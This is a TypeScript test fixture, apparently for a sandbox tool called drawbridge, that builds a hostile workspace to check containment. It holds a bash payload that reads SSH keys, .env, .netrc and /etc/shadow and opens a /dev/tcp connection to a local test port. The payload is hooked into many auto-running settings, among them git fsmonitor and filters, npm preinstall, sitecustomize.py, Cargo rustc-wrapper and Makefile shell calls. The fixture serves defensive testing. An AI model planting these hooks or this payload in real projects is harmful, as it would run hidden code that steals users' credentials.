import { execFileSync } from 'node:child_process'
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { pid } from 'node:process'
import { vi } from 'vitest'
import { createDrawbridge } from '../../create-drawbridge.ts'
import type { Drawbridge } from '../../drawbridge.ts'

/** The words that no contained command may print. */
export const secret = ['tell', 'no', 'one', '4711'].join('-')

/** The beginning of the names of all files that a payload writes. */
export const mark = `drawbridge-payload-mark-${pid}`

export interface HostileFolder extends Disposable {
  readonly root: string
  /** A folder of programs that are nothing but payload, each with the name of a usual one. */
  readonly programs: string
  open(): Promise<Drawbridge>
  /** Names, times, modes and contents of the workspace, the user's home and the folder next to them. */
  snapshot(): string
}

/** A workspace in which every setting that a program might obey starts a payload that writes marks, shows secrets and goes out. */
export function createHostileFolder(port: number, programs: Iterable<string>): HostileFolder {
  const root = realpathSync(mkdtempSync('/var/tmp/drawbridge-hostile-'))
  const at = (name: string) => join(root, name)
  const put = (name: string, text: string, mode = 0o644) => {
    mkdirSync(dirname(at(name)), { recursive: true })
    writeFileSync(at(name), text, { mode })
  }
  put('workspace/a.txt', 'hello\n')
  put('workspace/b.json', '{"a":1}')
  put('workspace/src/c.txt', 'c\n')
  // The hooks and settings come last: git obeys them here, too.
  const git = (...words: string[]) =>
    execFileSync('git', ['-C', at('workspace'), '-c', 'user.name=a', '-c', 'user.email=a@b.c', ...words], { stdio: 'ignore' })
  for (const words of [['init', '-q'], ['add', '.'], ['commit', '-qm', 'one'], ['init', '-q', 'sub']]) git(...words)
  const payload = at('workspace/payload')
  const script = payloadOf(root, port)
  for (const name of ['workspace/payload', 'workspace/hooks/post-index-change', 'workspace/.git/hooks/post-index-change'])
    put(name, script, 0o755)
  for (const program of programs) put(`programs/${program}`, script, 0o755)
  for (const name of ['workspace/.env', 'workspace/keys/server.pem', 'user/.ssh/id_rsa', 'user/.netrc', 'home/key', 'elsewhere/notes'])
    put(name, secret)
  put('workspace/a.txt', 'changed\n')
  for (const [name, text] of Object.entries(settingsOf(payload))) put(`workspace/${name}`, text)
  for (const place of ['.git/config', 'sub/.git/config']) put(`workspace/${place}`, gitSettings(payload))
  vi.stubEnv('HOME', at('user'))
  return {
    root,
    programs: at('programs'),
    open: () =>
      createDrawbridge({ workspace: at('workspace'), home: at('home/drawbridge'), useConfig: false, record: 'off', authority: { limiting: 'off' } }),
    snapshot: () => ['workspace', 'user', 'elsewhere'].flatMap((name) => stateOf(at(name))).join('\n'),
    [Symbol.dispose]: () => rmSync(root, { recursive: true, force: true }),
  }
}

/** Harmless by itself: files that begin with `mark`, and one connection to a port of the test. */
const payloadOf = (root: string, port: number): string => `#!/bin/bash
{
for place in . .git .git/hooks src "$HOME" "${root}/workspace" "${root}/user" "${root}/elsewhere" "${root}/home" /tmp /var/tmp /dev/shm /etc / ; do
  echo x > "$place/${mark}"
done
echo the payload ran
cat .env keys/server.pem ~/.ssh/id_rsa "${root}"/{workspace/.env,workspace/keys/*,user/.ssh/*,user/.netrc,home/key,elsewhere/*} /etc/shadow
for word in "$@"; do cat "\${word#*=}"; done
exec 3<> /dev/tcp/127.0.0.1/${port}
} 2> /dev/null < /dev/null
exit 0
`

const gitSettings = (payload: string): string => `[core]
  repositoryformatversion = 0
  bare = false
  fsmonitor = ${payload}
  hooksPath = hooks
  pager = ${payload}
  sshCommand = ${payload}
  editor = ${payload}
[pager]
  log = ${payload}
  diff = ${payload}
[diff]
  external = ${payload}
[diff "x"]
  command = ${payload}
  textconv = ${payload}
[filter "x"]
  clean = ${payload}
  smudge = ${payload}
  process = ${payload}
[filter "lfs"]
  process = ${payload}
[lfs]
  customtransfer.x.path = ${payload}
[alias]
  lfs = !${payload}
  status = !${payload}
[tar "x"]
  command = ${payload}
[gpg]
  program = ${payload}
[log]
  showSignature = true
[submodule "m"]
  url = ${payload}
  update = !${payload}
`

/** Settings of other programs that name code, by their files. */
const settingsOf = (payload: string): Readonly<Record<string, string>> => ({
  '.gitattributes': '* filter=x diff=x\n*.txt diff=x\n',
  '.gitmodules': `[submodule "m"]\n\tpath = sub\n\turl = ${payload}\n\tupdate = !${payload}\n`,
  '.lfsconfig': `[lfs]\n\turl = http://127.0.0.1/\n`,
  '.yarnrc': `yarn-path "${payload}"\n`,
  '.yarnrc.yml': `yarnPath: ${payload}\nplugins:\n  - ${payload}\n`,
  '.pnpmfile.cjs': `require('child_process').execFileSync('${payload}')\n`,
  '.npmrc': `script-shell=${payload}\nnode-options=--require=${payload}\nshell=${payload}\ngit=${payload}\n`,
  'package.json': `{"name":"x","scripts":{"preinstall":"${payload}","prepare":"${payload}"},"packageManager":"yarn@0.0.0"}`,
  'sitecustomize.py': `import subprocess; subprocess.run(["${payload}"])\n`,
  'usercustomize.py': `import subprocess; subprocess.run(["${payload}"])\n`,
  'pip.py': `import subprocess; subprocess.run(["${payload}"])\n`,
  'evil.pth': `import subprocess; subprocess.run(["${payload}"])\n`,
  'evil-1.0.dist-info/METADATA': 'Name: evil\nVersion: 1.0\n',
  'pip.conf': `[global]\nindex-url = http://127.0.0.1/\n`,
  '.python-version': '$(./payload)\n',
  '.node-version': '`./payload`\n',
  '.tool-versions': 'python ref:$(./payload)\n',
  Gemfile: `system("${payload}")\n`,
  '.gemrc': `:gempath: ["${payload}"]\n`,
  'evil.gemspec': `system("${payload}")\n`,
  'rust-toolchain.toml': `[toolchain]\npath = "${dirname(payload)}"\n`,
  '.cargo/config.toml': `[build]\nrustc = "${payload}"\nrustc-wrapper = "${payload}"\n[alias]\nV = "!${payload}"\n`,
  'go.mod': 'module x\ngo 1.99\ntoolchain go1.99.0\n',
  'main.go': `package main\n//go:generate ${payload}\n`,
  'global.json': `{"sdk":{"version":"99.0.0"}}`,
  Makefile: `x := $(shell ${payload})\nall:\n\t${payload}\n`,
  'main.tf': `data "external" "x" { program = ["${payload}"] }\n`,
  'mypy.ini': '[mypy]\nplugins = sitecustomize\n',
  evil: `extends: ${payload}\n`,
  '.ripgreprc': `--pre=${payload}\n`,
})

function stateOf(folder: string): readonly string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const path = join(folder, entry.name)
    const { mode, mtimeMs } = lstatSync(path)
    const line = `${path} ${mode.toString(8)} ${mtimeMs}`
    if (entry.isDirectory()) return [line, ...stateOf(path)]
    return [entry.isFile() ? `${line} ${readFileSync(path, 'latin1')}` : line]
  })
}
